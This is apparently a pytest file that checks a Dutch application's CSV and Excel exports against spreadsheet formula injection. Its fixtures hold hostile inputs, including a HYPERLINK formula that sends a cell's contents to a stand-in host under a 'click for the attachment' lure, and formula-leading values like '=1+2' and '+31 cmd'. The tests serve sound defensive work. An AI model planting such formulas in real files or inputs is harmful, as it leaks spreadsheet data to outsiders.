"""The examples of the bad-input issue, each as a test through the services."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from bewustwerven.services.app import App
from bewustwerven.services.reporting import ReportingService
from tests.services.conftest import make_procedure

FROM, TO = date(2000, 1, 1), date(2100, 1, 1)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier voor de bijlage")'
CHANNELS = ("=1+2", "+31 cmd", "@SUM(A1:A9)")


def _hostile_procedure(org: App) -> int:
    pid = make_procedure(org)
    rita = org.as_user("rita")
    assert rita.procedures.advance(pid, acknowledge_warnings=True).advanced
    rows = ["Naam;E-mail;Kanaal"] + [
        f"Persoon {i};p{i}@example.nl;{CHANNELS[i % 3]}" for i in range(6)
    ]
    result = rita.candidates.import_csv(pid, "\n".join(rows).encode())
    assert result.imported == 6, result.errors
    org.as_user("rita").deviations.request(pid, "OTHER", HYPERLINK)
    return pid


def _cells(path: Path) -> list[str]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as fh:
            return [c for r in csv.reader(fh, delimiter=";") for c in r]
    wb = load_workbook(path)
    out = []
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value}"
                out.append(str(c.value))
    return out


def test_deviation_justification_and_channels_never_run(org: App, tmp_path: Path) -> None:
    pid = _hostile_procedure(org)
    hr = org.as_user("hanna")
    service = ReportingService(hr.db, hr.actor)
    csv_cells = _cells(service.export_dossier(pid, tmp_path / "d.csv").path)
    assert "'" + HYPERLINK in csv_cells and HYPERLINK not in csv_cells
    xlsx_cells = _cells(service.export_dossier(pid, tmp_path / "d.xlsx").path)
    assert HYPERLINK in xlsx_cells  # shown as typed, as a string cell
    for suffix in ("csv", "xlsx"):
        cells = _cells(service.export_organisation(FROM, TO, tmp_path / f"o.{suffix}").path)
        for ch in CHANNELS:
            if suffix == "csv":
                assert ch not in cells and "'" + ch in cells
            else:
                assert ch in cells
        assert not [c for c in cells if suffix == "csv" and c[:1] in ("=", "@")]
